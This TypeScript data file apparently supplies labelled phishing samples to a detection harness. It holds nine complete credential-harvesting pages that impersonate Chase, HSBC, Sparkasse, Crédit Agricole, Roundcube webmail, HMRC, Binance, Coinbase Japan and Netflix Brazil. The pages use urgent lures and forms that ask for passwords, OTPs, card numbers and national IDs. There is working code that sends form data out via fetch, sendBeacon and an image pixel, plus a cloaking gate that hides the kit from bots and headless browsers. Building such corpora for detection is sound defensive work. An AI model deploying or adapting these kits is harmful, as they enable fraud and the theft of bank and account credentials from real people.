import type { Entry } from '../entry.js';
import { doc, analytics, beacon, logo, b64, xorB64, hexEsc, html, js, jsonRoute, redirectRoute, footer } from '../parts/zm-kit.js';

// Credential-harvesting kits, various brands and languages.

const exfilJs = (endpoint: string, next: string) => `
document.addEventListener('DOMContentLoaded',function(){
  var f=document.querySelector('form');if(!f)return;
  f.addEventListener('submit',function(ev){ev.preventDefault();
    var fd=new FormData(f),o={};fd.forEach(function(v,k){o[k]=v});
    o.ua=navigator.userAgent;o.ts=new Date().toISOString();
    fetch('${endpoint}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).finally(function(){location.href='${next}'});
  });
});`;

export const entries: Entry[] = [
  {
  id: 'zm-phish-chase-verify-identity',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://chase-online-verify.com/secure/logon/index.php',
  body: doc({
    title: 'Sign in - chase.com',
    css: `header{background:#117aca;height:64px;display:flex;align-items:center;padding:0 32px}header img{height:28px}.box{max-width:400px;margin:48px auto;padding:32px;border:1px solid #ddd;border-radius:6px}input{width:100%;padding:12px;margin:8px 0 16px;border:1px solid #999;border-radius:4px}button{width:100%;padding:14px;background:#117aca;color:#fff;border:0;border-radius:4px;font-size:16px}.warn{background:#fff4e5;border-left:4px solid #f59e0b;padding:12px;font-size:14px;margin-bottom:20px}`,
    body: `<header><img src="/secure/logon/img/chase-logo.png" alt="CHASE"></header>
<div class="box">
<div class="warn">We noticed unusual activity on your account. To avoid a temporary hold, please confirm your identity.</div>
<form action="/secure/logon/next.php" method="post">
<label>Username</label><input name="userId" autocomplete="username" required>
<label>Password</label><input name="password" type="password" required>
<label><input type="checkbox" name="remember" style="width:auto"> Remember me</label>
<button type="submit">Sign in</button>
</form>
<p style="font-size:13px"><a href="#">Forgot username/password?</a> &middot; <a href="#">Not Enrolled? Sign Up Now.</a></p>
</div>
${footer('JPMorgan Chase &amp; Co.', ['Privacy', 'Security', 'Terms of use', 'Accessibility'], 2026, 'Equal Housing Opportunity. Member FDIC.')}
<script>${exfilJs('/secure/logon/api/collect.php', '/secure/logon/step2.php?sess=' + 'a81f00c3')}</script>`,
  }),
  routes: {
    ...logo('chase-online-verify.com', '/secure/logon/img/chase-logo.png', 17, 122, 202),
    'chase-online-verify.com/secure/logon/api/collect.php': jsonRoute({ ok: 1 }),
  },
},
  {
  id: 'zm-phish-hsbc-uk-payee',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://hsbc-uk-newpayee.co.uk/online/dashboard/login',
  body: doc({
    title: 'Log on to Online Banking | HSBC UK',
    css: `header{border-bottom:1px solid #ddd;padding:14px 40px;display:flex;gap:10px;align-items:center}.hex{width:30px;height:20px;background:#db0011}main{max-width:560px;margin:40px auto}h1{font-weight:300}input{display:block;width:320px;padding:10px;margin:8px 0 18px;border:1px solid #333}button{background:#db0011;color:#fff;border:0;padding:12px 30px}.notice{background:#f3f3f3;padding:14px;font-size:14px}`,
    body: `<header><div class="hex"></div><b>HSBC UK</b></header>
<main><h1>Log on</h1>
<p class="notice">A new payee, <b>M. OKAFOR</b>, was added to your account on 28/11 at 23:14. If you did not authorise this, log on now to cancel the payee.</p>
<form method="post" action="secure-key.php">
<label>Username</label><input name="username">
<label>Date of birth (DDMMYY)</label><input name="dob">
<label>Memorable answer</label><input name="memorable" type="password">
<label>Secure Key code / OTP</label><input name="otp" inputmode="numeric">
<button>Continue</button></form>
<p style="font-size:12px;color:#666">HSBC UK Bank plc is authorised by the Prudential Regulation Authority and regulated by the Financial Conduct Authority.</p></main>`,
  }),
  routes: { 'hsbc-uk-newpayee.co.uk/online/dashboard/secure-key.php': html('<!doctype html><p>Please wait while we cancel the payee...</p>') },
},
  {
  id: 'zm-phish-sparkasse-pushtan-de',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sparkasse-pushtan-verlaengerung.de/de/home/onlinebanking.html',
  body: doc({
    lang: 'de',
    title: 'Sparkasse | Online-Banking Anmeldung',
    css: `header{background:#ff0000;color:#fff;padding:18px 36px;font-size:22px;font-weight:700}.c{max-width:480px;margin:36px auto;padding:28px;border:1px solid #e0e0e0}input,select{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #aaa}button{background:#ff0000;color:#fff;border:0;padding:13px;width:100%;font-weight:700}`,
    body: `<header>Sparkasse</header>
<div class="c"><h2>pushTAN-Verfahren aktualisieren</h2>
<p>Sehr geehrte Kundin, sehr geehrter Kunde,<br>aufgrund der neuen EU-Richtlinie (PSD2) ist eine Aktualisierung Ihres pushTAN-Verfahrens bis zum <b>05.12.2026</b> erforderlich. Andernfalls wird Ihr Online-Banking-Zugang gesperrt.</p>
<form action="verarbeitung.php" method="post">
<label>Ihre Sparkasse (BLZ oder Ort)</label><input name="blz" placeholder="z.B. Köln oder 37050198">
<label>Anmeldename / Legitimations-ID</label><input name="anmeldename">
<label>PIN</label><input type="password" name="pin">
<label>Telefonnummer</label><input name="tel">
<button>Weiter</button></form>
<p style="font-size:12px">Sparkassen-Finanzgruppe · Impressum · Datenschutz</p></div>`,
  }),
  routes: { 'sparkasse-pushtan-verlaengerung.de/de/home/verarbeitung.php': html('<!doctype html><p>Bitte warten... Ihre Daten werden geprüft.</p><meta http-equiv="refresh" content="8;url=https://www.sparkasse.de/">') },
},
  {
  id: 'zm-phish-credit-agricole-fr-certicode',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://ca-certicode-plus.fr/particuliers/authentification.html',
  body: doc({
    lang: 'fr',
    title: 'Crédit Agricole - Accéder à mes comptes',
    css: `header{background:#006a4e;color:#fff;padding:16px 32px}main{max-width:440px;margin:40px auto;border:1px solid #ccc;padding:28px;border-radius:8px}.pad{display:grid;grid-template-columns:repeat(5,48px);gap:6px;margin:10px 0}.pad button{height:44px;background:#eee;border:1px solid #bbb}input{width:100%;padding:10px;margin:6px 0 12px}.go{background:#006a4e;color:#fff;border:0;width:100%;padding:12px;margin-top:10px}`,
    body: `<header><b>Crédit Agricole</b> — Ma Banque</header>
<main><h3>Activation Certicode Plus obligatoire</h3><p>Votre dispositif Sécuripass expire. Sans réactivation sous 48h, l'accès à vos comptes sera suspendu.</p>
<label>Identifiant (11 chiffres)</label><input id="ident" maxlength="11">
<label>Code personnel</label><input id="code" type="password" readonly>
<div class="pad" id="pad"></div>
<button class="go" id="go">Valider</button>
<p style="font-size:12px">Crédit Agricole S.A. – Mentions légales – Sécurité – Cookies</p></main>
<script>
var keys=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5}),pad=document.getElementById('pad'),code=document.getElementById('code');
keys.forEach(function(k){var b=document.createElement('button');b.textContent=k;b.onclick=function(){if(code.value.length<6)code.value+=k};pad.appendChild(b)});
document.getElementById('go').onclick=function(){var i=new Image();i.src='/particuliers/px.gif?i='+encodeURIComponent(document.getElementById('ident').value)+'&c='+code.value;setTimeout(function(){location.href='/particuliers/carte.html'},900)};
</script>`,
  }),
  routes: {
    'ca-certicode-plus.fr/particuliers/px.gif': { status: 200, headers: { 'content-type': 'image/gif' }, body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') },
    'ca-certicode-plus.fr/particuliers/carte.html': html('<!doctype html><html lang="fr"><h3>Confirmez votre carte</h3><form><input name="cb" placeholder="Numéro de carte"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="Cryptogramme"><button>Valider</button></form></html>'),
  },
},
  {
  id: 'zm-phish-roundcube-quota-generic',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-quota-upgrade.webhost-admin.org/roundcube/?_task=login&domain=example-corp.com',
  body: doc({
    title: 'Webmail :: Welcome to Webmail',
    css: `body{background:#2f3a3f}#login{width:380px;margin:100px auto;background:#fff;border-radius:4px;padding:30px}.q{height:14px;background:#eee;border-radius:7px;overflow:hidden}.q i{display:block;height:100%;width:98%;background:#d9534f}input{width:100%;padding:9px;margin:6px 0 12px;border:1px solid #bbb}button{background:#37beff;color:#fff;border:0;padding:10px;width:100%}`,
    body: `<div id="login"><h2>Roundcube Webmail</h2>
<p><b>Mailbox quota: 1.96 GB / 2 GB</b></p><div class="q"><i></i></div>
<p style="font-size:13px">Your mailbox has exceeded the storage limit. Incoming messages are being held. Log in below to upgrade your quota for free.</p>
<form id="lg"><input name="_user" id="u" placeholder="Email"><input name="_pass" type="password" placeholder="Password"><button>Login &amp; Upgrade</button></form>
<p style="font-size:11px;color:#888">Webmail Admin &copy; 2026 · Powered by Roundcube</p></div>
<script>
var q=new URLSearchParams(location.search),dm=q.get('domain')||'';
document.getElementById('u').value='admin@'+dm;
document.getElementById('lg').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('dom',dm);
navigator.sendBeacon('/roundcube/plugins/upgrade/post.php',d);
setTimeout(function(){location.href='https://'+dm},600)};
</script>`,
  }),
  routes: { 'mail-quota-upgrade.webhost-admin.org/roundcube/plugins/upgrade/post.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' } },
},
  {
  id: 'zm-phish-hmrc-tax-refund-gov',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://hmrc-refund-claim.uk-gov-services.com/refund/start',
  body: doc({
    title: 'Claim your tax refund - GOV.UK',
    css: `header{background:#0b0c0c;color:#fff;padding:12px 30px;font-weight:700;font-size:22px}.bar{height:8px;background:#1d70b8}main{max-width:640px;margin:30px auto;padding:0 16px;font-family:Arial,sans-serif}input{display:block;width:100%;max-width:360px;padding:8px;border:2px solid #0b0c0c;margin:6px 0 18px}button{background:#00703c;color:#fff;border:0;padding:10px 18px;font-size:18px;box-shadow:0 2px 0 #002d18}`,
    body: `<header>GOV.UK</header><div class="bar"></div><main><span style="color:#505a5f">HM Revenue &amp; Customs</span><h1>Claim your tax refund</h1>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>£418.62</b>.</p>
<form method="post" action="/refund/details"><label>Full name</label><input name="name"><label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY"><label>National Insurance number</label><input name="nino" placeholder="QQ 12 34 56 C"><label>Card number (refund will be credited to this card)</label><input name="card"><label>Expiry date</label><input name="exp"><label>Security code</label><input name="cvv"><label>Mother's maiden name</label><input name="mmn"><button>Continue</button></form>
<p style="font-size:14px">All content is available under the Open Government Licence v3.0, except where otherwise stated · © Crown copyright</p></main>`,
  }),
  routes: { 'hmrc-refund-claim.uk-gov-services.com/refund/details': html('<!doctype html><p>Processing your refund. Please do not close this window.</p>') },
},
  {
  id: 'zm-phish-binance-cloaked-gate',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://binance-secure-kyc.com/en/login?ref=ad_5521',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Binance</title><style>body{background:#0b0e11;color:#eaecef;font-family:Arial,sans-serif}</style></head><body><div id="root"><p style="text-align:center;margin-top:200px;color:#555">Loading…</p></div>
<script>
(async function(){
  var bot=navigator.webdriver||/HeadlessChrome|bot|crawl|spider/i.test(navigator.userAgent);
  var r=await fetch('/api/v1/gate?tz='+encodeURIComponent(Intl.DateTimeFormat().resolvedOptions().timeZone)+'&b='+(bot?1:0)+'&ref='+new URLSearchParams(location.search).get('ref'));
  var j=await r.json();
  if(j.mode==='white'){document.getElementById('root').innerHTML='<h1>Crypto news daily</h1><p>Bitcoin rises 2% on ETF inflows.</p>';return}
  var t=await (await fetch(j.tpl)).text();document.getElementById('root').innerHTML=t;
  document.querySelector('#bf').onsubmit=function(e){e.preventDefault();fetch('/api/v1/submit',{method:'POST',body:new FormData(e.target)}).then(function(){document.querySelector('#bf').innerHTML='<p>Security verification: enter the 6-digit code sent to your email and the Google Authenticator code.</p><input name=ec><input name=ga><button>Submit</button>'})};
})();
</script></body></html>`,
  routes: {
    'binance-secure-kyc.com/api/v1/gate': jsonRoute({ mode: 'black', tpl: '/static/tpl/l.html' }),
    'binance-secure-kyc.com/static/tpl/l.html': html(`<div style="max-width:420px;margin:60px auto;background:#1e2329;padding:32px;border-radius:12px"><h2 style="color:#f0b90b">BINANCE</h2><h3>Log in</h3><p style="font-size:13px;color:#f6465d">Your account is restricted pending KYC re-verification. Log in to lift restrictions.</p><form id="bf"><input name="email" placeholder="Email/Phone number" style="width:100%;padding:12px;margin:8px 0;background:#2b3139;border:1px solid #474d57;color:#fff"><input name="password" type="password" placeholder="Password" style="width:100%;padding:12px;margin:8px 0;background:#2b3139;border:1px solid #474d57;color:#fff"><button style="width:100%;padding:12px;background:#fcd535;border:0;border-radius:6px">Log In</button></form></div>`),
    'binance-secure-kyc.com/api/v1/submit': jsonRoute({ next: '2fa' }),
  },
},
  {
  id: 'zm-phish-coinbase-ja-account-lock',
  label: 'phishing',
  kind: 'exchange-kit',
  url: 'https://coinbase-jp-support.net/signin',
  body: doc({
    lang: 'ja',
    title: 'Coinbase - サインイン',
    css: `body{background:#f8f9fb}.c{max-width:420px;margin:60px auto;background:#fff;border:1px solid #e5e5e5;border-radius:16px;padding:32px}h1{color:#0052ff}input{width:100%;padding:12px;border:1px solid #ccc;border-radius:8px;margin:8px 0}button{width:100%;padding:14px;border:0;border-radius:40px;background:#0052ff;color:#fff;font-weight:600}`,
    body: `<div class="c"><h1>coinbase</h1><h3>Coinbaseにサインイン</h3><p style="color:#cf202f;font-size:14px">異常なログインが検出されたため、お客様のアカウントは一時的にロックされています。本人確認を完了してください。</p>
<form method="post" action="/signin/verify"><input name="email" placeholder="メールアドレス"><input name="password" type="password" placeholder="パスワード"><input name="phone" placeholder="電話番号"><button>続ける</button></form>
<p style="font-size:12px;color:#888">© 2026 Coinbase · プライバシー · 利用規約</p></div>`,
  }),
  routes: { 'coinbase-jp-support.net/signin/verify': html('<!doctype html><html lang="ja"><p>SMSで送信された認証コードを入力してください。</p><form><input name="code"><button>確認</button></form></html>') },
},
  {
  id: 'zm-phish-netflix-ptbr-pagamento',
  label: 'phishing',
  kind: 'subscription-kit',
  url: 'https://netflix-assinatura-atualizar.com.br/conta/pagamento',
  body: doc({
    lang: 'pt-BR',
    title: 'Netflix - Atualize seu pagamento',
    css: `body{background:#000 linear-gradient(#000,#141414);color:#fff}header{padding:20px 40px;color:#e50914;font-size:32px;font-weight:900}.c{max-width:450px;margin:20px auto;background:rgba(0,0,0,.75);padding:50px}input{width:100%;padding:14px;background:#333;border:0;color:#fff;border-radius:4px;margin:6px 0}button{width:100%;background:#e50914;color:#fff;border:0;padding:14px;border-radius:4px;margin-top:16px;font-weight:700}`,
    body: `<header>NETFLIX</header><div class="c"><h2>Sua assinatura foi suspensa</h2><p style="color:#b3b3b3">Não conseguimos processar o pagamento da sua mensalidade. Atualize seus dados em até 24 horas para continuar assistindo.</p>
<form action="/conta/processar" method="post"><input name="email" placeholder="Email"><input name="senha" type="password" placeholder="Senha"><input name="cpf" placeholder="CPF"><input name="cartao" placeholder="Número do cartão"><input name="validade" placeholder="Validade (MM/AA)"><input name="cvv" placeholder="CVV"><button>Atualizar pagamento</button></form></div>
<p style="text-align:center;color:#737373;font-size:13px">Dúvidas? Ligue 0800 591 2876 · Central de Ajuda · Termos de Uso · Privacidade</p>`,
  }),
  routes: { 'netflix-assinatura-atualizar.com.br/conta/processar': redirectRoute(302, 'https://www.netflix.com/br/') },
},
];
